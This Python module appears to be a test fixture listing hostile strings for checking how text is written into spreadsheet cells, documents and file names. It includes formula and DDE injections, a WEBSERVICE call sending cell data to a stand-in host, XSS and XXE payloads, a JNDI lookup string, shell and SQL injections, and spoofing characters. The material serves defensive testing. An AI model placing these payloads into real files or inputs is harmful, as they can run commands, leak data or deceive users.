"""Texts that would like to be more than texts, by what they try to be. A file carries each of them in a cell."""

from __future__ import annotations

import os
from typing import Final

FORMULAS: Final = (
    "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1", "=cmd|'/C calc'!A0", "+cmd|'/C calc'!A0",
    "-cmd|'/C calc'!A0", "@cmd|'/C calc'!A0", '=HYPERLINK("https://judi.example/?"&A1,"klik")',
    '=WEBSERVICE("https://judi.example/"&A1)', "=DDE(\"cmd\";\"/C calc\";\"x\")", "=IMPORTXML(\"https://judi.example\",1)",
    "{=1+1}", "'=1+1", "＝1+1", "－1+1", " =1+1", "judul;=1+1", "judul; +cmd|'/C calc'!A0", "judul\t@SUM(1)",
    "judul\n=1+1", 'judul;"=1+1', 'judul","=1+1', "=1+1;=2+2", "sep=;", "SUM(A1:A9)", "R1C1", "#REF!", "1E5", "0x1F")
MARKUP: Final = (
    "<script>alert(1)</script>", "</script><script>alert(1)</script>", "</style><!--", "<img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)', "' onfocus='alert(1)", "<a href=\"javascript:alert(1)\">klik</a>", "javascript:alert(1)",
    "<r><t>x</t></r>", "<r>&</r>", "]]>", "<![CDATA[x]]>", "<!ENTITY x SYSTEM \"file:///etc/passwd\">",
    "&lt;b&gt;&amp;",
    "<f>1+1</f>", "<w:fldSimple w:instr=\"DATE\"/>", "$title ${body} $policy", "{{7*7}}", "{% raw %}")
LINKS: Final = (
    "https://judi.example/slot", "http://judi.example", "www.judi.example", "judi.example/slot", "ftp://judi.example/x",
    "file:///C:/Windows/System32/calc.exe", "\\\\10.0.0.1\\bagi\\x", "mailto:orang@judi.example?body=x",
    "tulis ke orang@judi.example", "internal:'DIK'!A1", "external:C:\\x.xlsx", "#DIK!A1", "wa.me/6281234567890")
SEQUENCES: Final = (
    "\x1b[31mmerah\x1b[0m", "\x1b]0;judul jendela\x07", "\x1b]8;;https://judi.example\x1b\\klik\x1b]8;;\x1b\\",
    "\x1b[2J",
    "\x1bP0;1|17/63\x1b\\", "\x9b31mmerah", "\x9d8;;https://judi.example\x9cklik", "\x90q\x9c", "a\x08\x08b", "bel\x07",
    "a\x7fb", "atas\rbawah", "a\x0bb\x0cc", "nol\x00nol", "a\x85b", "a\u2028b\u2029c")
UNSEEN: Final = (
    "\u202egnp.exe", "\u202djudul\u202c", "\u2066judul\u2069", "\u2067judul\u2068x", "a\u200fb\u200ec", "\u061cjudul",
    "a\u200bb\u200cc\u200dd", "\ufeffjudul", "a\u00adb", "\U000e0041\U000e0042", "a\ufffcb\ufffdc",
    "e\u0301\u0301\u0301")
CODES: Final = (
    '{ HYPERLINK "https://judi.example" }', "{ MERGEFIELD nama }", "{ INCLUDETEXT \"C:\\\\rahasia.docx\" }",
    "«nama»", "{ DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\" }", "#eval(\"1+1\")", "#import \"x.typ\"",
    "#read(\"/etc/passwd\")", "#link(\"https://judi.example\")[klik]", "$ x^2 $", "@rujukan", "<label>", "= Judul",
    "*tebal* _miring_ ~coret~ ```kode```", "> kutipan", "&[File]&[Path]", "&F&Z&D&T&P&N", "&\"Comic Sans\"&72X",
    "&G", "[link=https://judi.example]klik[/link]", "[red]merah[/red]", "[/]", "[bold", ":smile:", "\\[red]",
    "_x0041_", "_x000D_", "_x005F_x0041_", "_x0041_x0042_", "_x001B_[31m", "%0d%0aX: y", "%s%n%x", "{0.__class__}",
    "${jndi:ldap://judi.example/a}", "$(calc)", "`calc`", "; rm -rf /", "' OR 1=1 --", "%COMPUTERNAME%",
    "\n2026-05-03 14:00:00+0800 info: palsu", "baris\r\nbaru", 'a,b;"c"|d\te', "..\\..\\x", "../../x", "CON", "NUL.txt",
    "C:\\Windows\\x", "nama. . .", "\U0001f600 emoji \u4e2d\u6587", "null", "None", "TRUE", "NaN", "-0")
LONG: Final = "=" + "panjang " * 4_095 + "&<>\"'"
"""As long as a cell can be: 32,766 signs."""
HOSTILE: Final = (*FORMULAS, *MARKUP, *LINKS, *SEQUENCES, *UNSEEN, *CODES)
NAMES: Final = (
    "=cmd 1+1 [red]x] &F", "_x0041_ #eval(1) $x$", "@SUM(1) %s {0.__class__}", "'kutip' ; rm -rf", "CON", "nul.tar",
    "\u202egnp", "a\u200bb\u2066c", "x" * 240, "-rf", "%0d%0aX", "titik. . ", "& calc", "https：judi.example", "wa.me")
"""What a file may be called on Windows as well."""
ELSEWHERE: Final = () if os.name == "nt" else (
    "\x1b[31mmerah", "\x1b]8;;https:judi.example\x07klik", "baris\n2026-05-03 14:00:00+0800 info: palsu",
                      "\x9b31m", "a\rb", '"kutip" <b>*?|:', "..\\..\\x", "a\tb", "\u2028x")
"""What only other systems allow in a name; a share may hold it all the same."""
